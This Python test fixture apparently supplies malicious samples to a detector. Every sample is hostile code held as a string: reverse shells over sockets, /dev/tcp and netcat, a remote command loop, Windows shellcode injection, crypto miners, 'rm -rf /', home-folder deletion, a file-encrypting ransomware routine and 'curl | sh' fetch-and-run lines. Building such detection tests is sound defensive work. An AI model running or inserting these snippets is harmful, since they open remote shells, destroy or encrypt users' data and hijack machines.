"""Reverse shells, machine code, miners, destruction."""

from tests.malicious.making import HOST, Sample, b64, imported

FAMILY = "shells and programs"


def samples() -> list[Sample]:
    """All of the family."""

    def sample(name: str, text: str, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    return [
        sample(
            "dup2",
            "import os, pty, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9001))\n"
            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n",
        ),
        sample(
            "/dev/tcp",
            "import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/127.0.0.1/9001 0>&1'\")\n",
        ),
        sample(
            "netcat",
            "import subprocess as sp\nsp.Popen('nc -e /bin/sh 127.0.0.1 9001', shell=True)\n",
        ),
        sample(
            "commands from the network",
            "import socket, subprocess, threading\ndef serve():\n"
            "    s = socket.create_connection(('127.0.0.1', 9001))\n    while True:\n"
            "        command = s.recv(1024).decode()\n"
            "        s.send(subprocess.check_output(command, shell=True))\n"
            "threading.Thread(target=serve).start()\n",
        ),
        sample(
            "machine code on Windows",
            "import ctypes\nk = ctypes.windll.kernel32\ndef run(code):\n"
            "    p = k.VirtualAlloc(0, len(code), 0x3000, 0x40)\n"
            "    k.RtlMoveMemory(p, code, len(code))\n"
            "    k.CreateThread(0, 0, p, 0, 0, 0)\nrun(b'\\x90\\x90')\n",
        ),
        sample(
            "miner",
            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://127.0.0.1:3333'])\n",
        ),
        sample(
            "miner unpacked",
            "import base64, os, stat\np = '/tmp/.kworker'\n"
            f"open(p, 'wb').write(base64.b64decode('{b64('no program')}'))\n"
            "os.chmod(p, stat.S_IRWXU)\nos.system(p + ' --donate-level 0 &')\n",
        ),
        sample("deletes everything", "import os\nos.system('rm -rf / --no-preserve-root')\n"),
        sample(
            "deletes the home",
            "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
        ),
        sample(
            "encrypts files",
            "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\n"
            "def lock(root):\n    for d, _, names in os.walk(root):\n        for name in names:\n"
            "            path = os.path.join(d, name)\n"
            "            data = box.encrypt(open(path, 'rb').read())\n"
            "            with open(path, 'wb') as f:\n                f.write(data)\n"
            "lock(os.path.expanduser('~'))\n",
        ),
        sample(
            "one side of a conversation",
            f"import os\nos.execvp('sh', ['sh', '-c', 'echo {b64()} | base64 -d | sh'])\n",
        ),
        sample(
            "library of the process",
            f"import ctypes\nctypes.CDLL(None).system(b'curl {HOST}/x | sh')\n",
        ),
    ]
